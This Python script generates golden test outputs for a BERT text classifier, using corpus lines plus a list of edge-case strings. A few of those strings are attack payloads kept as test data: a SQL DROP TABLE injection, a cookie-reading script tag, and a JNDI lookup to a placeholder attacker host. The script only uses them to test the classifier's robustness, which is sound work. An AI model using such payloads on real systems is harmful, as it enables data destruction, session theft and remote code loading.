"""Writes golden outputs of the model for the engine's tests, made with the transformers library.

    python golden.py .. ../../../crates/classifier/tests/golden/mini.jsonl

Rows carry the raw text; the model sees the first 512 characters of its template, truncated at 512
tokens; softmax, the winning class. Weights are read as f16 and computed in f32, one line
at a time, so that no padding is involved. The lines come from the corpus generator and from the
odd cases below. Each case names the versions and the start of the model's hash.
"""

import argparse
import hashlib
import json
from pathlib import Path

import tokenizers
import torch
import transformers
from transformers import BertForSequenceClassification, PreTrainedTokenizerFast

from corpus import generate
from measure import prepared

ODD = [
    "",
    " ",
    "        ",
    "\t",
    "\u00a0\u2003 ",
    "a",
    "0",
    "-----",
    "....................................................................",
    "ERROR",
    "error error error error error",
    "0 errors, 0 warnings",
    "x" * 80,
    "x" * 101,
    "x" * 5000,
    "word " * 400,
    "9 " * 300,
    "!?" * 300,
    "disk failure " * 60,
    "Ошибка: соединение с базой данных потеряно",
    "Échec de l'authentification pour l'utilisateur réseau",
    "Verbindung zum Server abgelehnt: Zeitüberschreitung überschritten",
    "データベースへの接続に失敗しました",
    "磁盘 /dev/sda 读取错误，扇区 88231",
    "연결이 거부되었습니다: 10.0.0.7:5432",
    "فشل تسجيل الدخول للمستخدم root",
    "🔥 disk full 🔥 on /data",
    "✅ deployment of checkout finished",
    "👩‍👩‍👧‍👦 family emoji with joiners failed to render",
    "\x1b[31mERROR\x1b[0m connection refused",
    "bell \x07 backspace \x08 vertical \x0b form \x0c escape \x1b",
    "carriage\rreturn and\nnew line\tand tab",
    "zero\u200bwidth\u200bspace and \ufeffbom and \u202eoverride",
    "replacement \ufffd characters \ufffd\ufffd after bad bytes",
    "combining e\u0301chec and ligature \ufb01le and fullwidth ＥＲＲＯＲ",
    "İstanbul ıŞĞ dotted and dotless",
    "ß ẞ ﬀ ǆ ΑΣ",
    "[CLS] [SEP] [PAD] [MASK] [UNK]",
    "text with [SEP] inside and [MASK] tokens",
    "##ing ##s subword marks",
    "'); DROP TABLE log_entries;--",
    "<script>alert(document.cookie)</script>",
    "%s%s%s%n %x {0} {{}} ${jndi:ldap://evil.example/a}",
    "a" * 511 + "é" + "connection refused",
    "漢" * 600,
    "🔥" * 600,
    '{"level":"error","msg":"nested {\\"a\\":[1,2,3]}","n":null}',
    "key=value key2=\"quoted value\" key3='single' =empty= ==",
    "https://shop.example.net/a/b/c?d=e&f=g#h 10.0.0.1:8080 fe80::1%eth0",
    "2026-11-22T09:04:58.211Z 1795338346.5142817 0xdeadbeef 1e-9 -273.15 1,234,567",
]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("model", type=Path)
    parser.add_argument("out", type=Path)
    parser.add_argument("--lines", type=int, default=200)
    parser.add_argument("--seed", type=int, default=4711)
    options = parser.parse_args()
    torch.set_num_threads(1)
    tokenizer = PreTrainedTokenizerFast(
        tokenizer_file=str(options.model / "tokenizer.json"), model_max_length=512,
        cls_token="[CLS]", sep_token="[SEP]", pad_token="[PAD]", unk_token="[UNK]", mask_token="[MASK]",
    )
    model = BertForSequenceClassification.from_pretrained(options.model, dtype=torch.float32).eval()
    texts = ODD + [line.text for line in generate(options.seed, 1, held_out=None)[: options.lines - len(ODD)]]
    digest = hashlib.sha256((options.model / "model.safetensors").read_bytes()).hexdigest()
    made_with = f"transformers {transformers.__version__}, tokenizers {tokenizers.__version__}, torch {torch.__version__}, model.safetensors sha256 {digest[:16]}"
    rows = []
    for text, seen in zip(texts, prepared(str(options.model), texts)):
        inputs = tokenizer(seen, truncation=True, max_length=512, return_tensors="pt")
        with torch.inference_mode():
            logits = model(**inputs).logits[0]
        probabilities = logits.softmax(-1)
        winner = int(probabilities.argmax())
        rows.append({
            "text": text,
            "tokens": inputs["input_ids"].shape[1],
            "label": model.config.id2label[winner],
            "score": float(probabilities[winner]),
            "logits": [float(v) for v in logits],
            "probabilities": [float(v) for v in probabilities],
            "made_with": made_with,
        })
    options.out.parent.mkdir(parents=True, exist_ok=True)
    options.out.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    print(f"{len(rows)} cases in {options.out}")


if __name__ == "__main__":
    main()
